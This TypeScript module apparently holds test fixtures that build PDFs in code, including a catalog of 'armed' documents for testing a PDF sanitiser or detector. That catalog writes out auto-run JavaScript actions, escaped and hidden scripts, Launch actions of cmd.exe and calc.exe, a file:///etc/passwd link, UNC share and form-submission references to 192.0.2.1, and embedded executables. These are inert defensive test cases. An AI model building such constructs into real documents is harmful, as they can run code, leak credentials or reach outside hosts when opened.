import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';

/** One object of a PDF, as its source says it. */
type Source = string | Buffer;

export const CATALOG = 1;
/** First number that a test may give to an object of its own. */
export const OWN = 10;
export const TEXT = 'The seller has sold forty bags';

const stream = (dict: string, bytes: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
export const streamOf = stream;

/** Two pages of text, with what a test puts into the catalog, a page and the trailer, and with objects of its own. */
export type Parts = {
  readonly catalog?: string;
  readonly page?: string;
  readonly objects?: Readonly<Record<number, Source>>;
};

export function pdfWith({ catalog = '', page = '', objects = {} }: Parts = {}): Buffer {
  return written({
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 5 0 R /Resources << /Font << /F1 7 0 R >> >> ${page} >>`,
    4: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    5: stream('/Filter /FlateDecode', deflateSync(`BT /F1 12 Tf 20 200 Td (${TEXT}) Tj ET`)),
    6: stream('/Filter /FlateDecode', deflateSync('BT /F1 12 Tf 20 200 Td (second page) Tj ET')),
    7: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  });
}

/** Header, objects, table of references, trailer, as ISO 32000-2, 7.5 has it. */
export function written(objects: Readonly<Record<number, Source>>, trailer = ''): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const size = (): number => pieces.reduce((sum, { length }) => sum + length, 0);
  const offsets = new Map<number, number>();
  for (const [number, source] of Object.entries(objects)) {
    offsets.set(Number(number), size());
    pieces.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(source), Buffer.from('\nendobj\n'));
  }
  const last = Math.max(...offsets.keys());
  const at = size();
  const rows = Array.from({ length: last + 1 }, (_, number) => {
    const offset = offsets.get(number);
    return offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  pieces.push(
    Buffer.from(
      `xref\n0 ${last + 1}\n${rows.join('')}trailer\n<< /Size ${last + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(pieces);
}

/** The same document with objects in compressed object streams, or locked for whoever has no password. */
export async function rewritten(
  bytes: Buffer,
  { objectStreams = false, password }: { readonly objectStreams?: boolean; readonly password?: string },
): Promise<Buffer> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false, preserveXFA: true });
  if (password !== undefined) document.encrypt({ userPassword: password, ownerPassword: 'owner', permissions: {} });
  return Buffer.from(await document.save({ useObjectStreams: objectStreams, updateFieldAppearances: false }));
}

/** An object stream (7.5.7) of these objects. */
export const objectStream = (objects: Readonly<Record<number, string>>, type = '/Type /ObjStm '): Buffer => {
  const bodies = Object.values(objects);
  const starts = bodies.map((_, index) => bodies.slice(0, index).join('\n').length + (index > 0 ? 1 : 0));
  const head = `${Object.keys(objects)
    .map((number, index) => `${number} ${starts[index]}`)
    .join(' ')}\n`;
  const bytes = deflateSync(`${head}${bodies.join('\n')}`);
  return stream(`${type}/N ${bodies.length} /First ${head.length} /Filter /FlateDecode`, bytes);
};

const annotation = (rest: string): Parts => ({
  page: `/Annots [${OWN} 0 R]`,
  objects: { [OWN]: `<< /Type /Annot /Rect [10 10 50 50] ${rest} >>` },
});
const link = (action: string): Parts => annotation(`/Subtype /Link /A ${action}`);
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** One of each kind, by what it does; what it is told as. */
export const ARMED: Readonly<Record<string, { readonly parts: Parts; readonly kinds: readonly string[] }>> = {
  'a script when it opens': { parts: { catalog: `/OpenAction ${SCRIPT}` }, kinds: ['automatic', 'javascript'] },
  'a script in the tree of names': {
    parts: { catalog: `/Names << /JavaScript << /Names [(a) ${OWN} 0 R] >> >>`, objects: { [OWN]: SCRIPT } },
    kinds: ['javascript'],
  },
  'a script in a stream': {
    parts: {
      catalog: `/OpenAction << /S /JavaScript /JS ${OWN} 0 R >>`,
      objects: { [OWN]: stream('', Buffer.from('app.alert(1)')) },
    },
    kinds: ['automatic', 'javascript'],
  },
  'a script when a page is turned': { parts: { page: `/AA << /O ${SCRIPT} >>` }, kinds: ['automatic', 'javascript'] },
  'a script behind a click': { parts: link(SCRIPT), kinds: ['javascript'] },
  'a script behind a harmless step': {
    parts: link(`<< /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>`),
    kinds: ['javascript'],
  },
  'a script of a field': {
    parts: {
      catalog: `/AcroForm << /Fields [${OWN} 0 R] >>`,
      ...annotation(`/Subtype /Widget /FT /Tx /T (name) /AA << /K ${SCRIPT} >>`),
    },
    kinds: ['automatic', 'javascript'],
  },
  'a script in escapes': {
    parts: { catalog: '/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' },
    kinds: ['automatic', 'javascript'],
  },
  'a script as an address': { parts: link('<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>'), kinds: ['launch'] },
  'a script that nothing refers to': { parts: { objects: { [OWN]: SCRIPT } }, kinds: ['javascript'] },
  'a script in an outline': {
    parts: { catalog: `/Outlines << /First ${OWN} 0 R >>`, objects: { [OWN]: `<< /Title (a) /A ${SCRIPT} >>` } },
    kinds: ['javascript'],
  },
  'a program': { parts: link('<< /S /Launch /Win << /F (cmd.exe) >> >>'), kinds: ['launch'] },
  'a program when it opens': {
    parts: { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' },
    kinds: ['automatic', 'launch'],
  },
  'a file as an address': { parts: link('<< /S /URI /URI (file:///etc/passwd) >>'), kinds: ['launch'] },
  'a share as an address': { parts: link('<< /S /URI /URI (\\\\\\\\192.0.2.1\\\\a) >>'), kinds: ['launch'] },
  'a form that is sent': { parts: link('<< /S /SubmitForm /F (http://192.0.2.1/) >>'), kinds: ['form'] },
  'data that are fetched': { parts: link('<< /S /ImportData /F (a.fdf) >>'), kinds: ['form'] },
  'another document': {
    parts: link('<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) /D [0 /Fit] >>'),
    kinds: ['go-to-file'],
  },
  'a document within': { parts: link('<< /S /GoToE /T << /R /C /N (a) >> >>'), kinds: ['go-to-file'] },
  'a web page when it opens': {
    parts: { catalog: '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>' },
    kinds: ['automatic'],
  },
  'a dialogue for printing': { parts: { catalog: '/OpenAction << /S /Named /N /Print >>' }, kinds: ['automatic'] },
  'a file within': {
    parts: {
      catalog: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F ${OWN} 0 R >> >>] >> >>`,
      objects: { [OWN]: stream('/Type /EmbeddedFile', Buffer.from('MZ program')) },
    },
    kinds: ['embedded-file'],
  },
  'a file at a place': {
    parts: {
      page: `/Annots [${OWN} 0 R]`,
      objects: {
        [OWN]: `<< /Type /Annot /Subtype /FileAttachment /Rect [1 1 9 9] /FS << /F (a) /EF << /F ${OWN + 1} 0 R >> >> >>`,
        [OWN + 1]: stream('/Type /EmbeddedFile', Buffer.from('MZ program')),
      },
    },
    kinds: ['embedded-file'],
  },
  'a form of XFA': {
    parts: {
      catalog: `/AcroForm << /Fields [] /XFA [(template) ${OWN} 0 R] >>`,
      objects: { [OWN]: stream('', Buffer.from('<template><script>app.alert(1)</script></template>')) },
    },
    kinds: ['xfa'],
  },
  'a rich medium': { parts: annotation('/Subtype /RichMedia /RichMediaContent << >>'), kinds: ['multimedia'] },
  'a film': { parts: annotation('/Subtype /Movie /Movie << /F (a.avi) >>'), kinds: ['multimedia'] },
  'a sound': { parts: link('<< /S /Sound /Sound 5 0 R >>'), kinds: ['multimedia'] },
  'a body in space': { parts: annotation('/Subtype /3D /3DD 5 0 R'), kinds: ['multimedia'] },
  'a screen': {
    parts: annotation(`/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(1\\)) >>`),
    kinds: ['multimedia'],
  },
  'bytes that lie elsewhere': {
    parts: { objects: { 6: stream('/F (\\\\\\\\192.0.2.1\\\\a)', Buffer.from('')) } },
    kinds: ['external-content'],
  },
  'a script in an object stream that says it is none': {
    parts: { objects: { [OWN]: objectStream({ 30: SCRIPT }, '') } },
    kinds: ['hidden'],
  },
  'an object within the bytes of another': {
    parts: { objects: { [OWN]: stream('', Buffer.from(`40 0 obj ${SCRIPT} endobj`)) } },
    kinds: ['hidden', 'javascript'],
  },
};

/** What a PDF may well have and nobody is harmed by. */
export const HARMLESS: Readonly<Record<string, Parts>> = {
  'nothing but pages': {},
  'a link to the web': link('<< /S /URI /URI (https://example.org/a?b=c:d) >>'),
  'a link within': link('<< /S /GoTo /D [4 0 R /Fit] >>'),
  'a place to begin at': { catalog: '/OpenAction [4 0 R /Fit]' },
  'a button that turns the page': link('<< /S /Named /N /NextPage >>'),
  'fonts with the names of actions': { page: '/Resources << /Font << /F1 7 0 R /AA 7 0 R /A 7 0 R /JS 7 0 R >> >>' },
  'a structure with attributes': {
    catalog: `/StructTreeRoot << /Type /StructTreeRoot /K << /Type /StructElem /S /P /A << /O /Layout >> >> >>`,
  },
};

/** A signature as one lies in a PDF; nobody made it. */
export const SIGNED: Parts = {
  catalog: `/AcroForm << /SigFlags 3 /Fields [${OWN} 0 R] >>`,
  page: `/Annots [${OWN} 0 R]`,
  objects: {
    [OWN]: `<< /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /FT /Sig /T (s) /V ${OWN + 1} 0 R >>`,
    [OWN + 1]: '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 10 20 10] /Contents <00> >>',
  },
};

/** Pages of Chinese text in a font that the PDF names and does not bring, as offices write it: each reader needs its tables. */
export function chinesePdf(...pages: readonly string[]): Buffer {
  const hex = (text: string): string => Buffer.from(text, 'utf16le').swap16().toString('hex');
  const own = pages.map((text, at) => ({
    page: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 300] /Contents ${OWN + 2 * at + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
    text: stream('', Buffer.from(`BT /F1 22 Tf 40 220 Td <${hex(text)}> Tj ET`)),
  }));
  const kids = own.map((_, at) => `${OWN + 2 * at} 0 R`).join(' ');
  return written({
    1: '<< /Type /Catalog /Pages 2 0 R >>',
    2: `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    3: '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [4 0 R] >>',
    4: '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor 5 0 R >>',
    5: '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
    ...Object.fromEntries(
      own.flatMap(({ page, text }, at) => [
        [OWN + 2 * at, page],
        [OWN + 2 * at + 1, text],
      ]),
    ),
  });
}

/** Left white, right black, as a scanner writes it: Group 4 (ITU-T T.6), sixteen rows of sixteen dots. */
const HALF_BLACK = `001${'10011'}${'000101'}${'11'.repeat(15)}${'000000000001'.repeat(2)}`;

const groupFour = (): Buffer => {
  const bits = HALF_BLACK.padEnd(Math.ceil(HALF_BLACK.length / 8) * 8, '0');
  return Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)));
};
const DOTS = 16;
const numbers = (...all: readonly number[]): Buffer => {
  const bytes = Buffer.alloc(4 * all.length);
  for (const [at, one] of all.entries()) bytes.writeUInt32BE(one, 4 * at);
  return bytes;
};
/** The same by JBIG2 (ITU-T T.88): a segment for the page, one for a region that is written as Group 4. */
const jbig2 = (): Buffer => {
  const segment = (number: number, type: number, data: Buffer): Buffer =>
    Buffer.concat([numbers(number), Buffer.from([type, 0, 1]), numbers(data.length), data]);
  const all = numbers(DOTS, DOTS, 0, 0);
  return Buffer.concat([
    segment(0, 48, Buffer.concat([all, Buffer.from([0, 0, 0])])),
    segment(1, 38, Buffer.concat([all, Buffer.from([0, 1]), groupFour()])),
  ]);
};
/** The same by JPEG 2000 (ITU-T T.800): one tile, one code block, one bit deep, without wavelets. */
const JPEG_2000 =
  '/0//UQApAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAABAAEB/1IADAAAAAEAAAICAAH/XAAEIAj/kAAKAAAAAAAVAAH/k+Y7DQ0r/3//2Q==';

const SCANS = {
  fax: { filter: `/CCITTFaxDecode /DecodeParms << /K -1 /Columns ${DOTS} /Rows ${DOTS} >>`, bytes: groupFour },
  jbig2: { filter: '/JBIG2Decode', bytes: jbig2 },
  jpeg2000: { filter: '/JPXDecode', bytes: () => Buffer.from(JPEG_2000, 'base64') },
} as const;

/** One page that a scanner made: its picture needs a decoder that no browser has. */
export function scannedPdf(by: keyof typeof SCANS = 'fax'): Buffer {
  const { filter, bytes } = SCANS[by];
  return written({
    1: '<< /Type /Catalog /Pages 2 0 R >>',
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    4: stream('', Buffer.from('q 200 0 0 200 0 0 cm /I Do Q')),
    5: stream(
      `/Type /XObject /Subtype /Image /Width ${DOTS} /Height ${DOTS} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter ${filter}`,
      bytes(),
    ),
  });
}
